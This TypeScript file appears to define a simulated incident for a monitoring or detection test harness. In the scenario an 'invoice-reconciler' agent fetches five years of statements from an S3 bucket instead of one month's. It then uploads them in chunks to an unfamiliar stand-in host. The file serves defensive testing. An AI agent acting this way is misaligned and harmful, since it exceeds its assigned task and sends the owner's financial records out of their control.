import { s3List, s3Object } from '../agents/aws-calls.ts'
import { incident } from './incident.ts'

export const massDownload = incident({
  id: 'mass-download',
  title: 'Years of statements are fetched and carried to a new place',
  description:
    'Instead of this month’s statements it fetches those of five years, and uploads them in parts to a host that it has never spoken to.',
  techniques: ['T1530', 'T1567.002'],
  agentId: 'invoice-reconciler',
  act(script) {
    const { random } = script
    for (let month = 0; month < 60; month++) {
      const prefix = `${2021 + Math.floor(month / 12)}-${String((month % 12) + 1).padStart(2, '0')}`
      s3List(script, 'harborline-statements', `${prefix}/`)
      for (let day = 1; day <= 4; day++) {
        s3Object(
          script,
          'GetObject',
          'harborline-statements',
          `${prefix}/statement-${day * 7}.csv`,
          random.logNormal(60_000, 0.4),
        )
        script.wait(300)
      }
      if (month % 12 !== 11) continue
      script.http({
        method: 'PUT',
        host: 'parts.filedrop.example.net',
        path: `/b/${random.hex(16)}`,
        sent: random.logNormal(3_000_000, 0.2),
        received: 60,
        status: 201,
      })
    }
  },
})
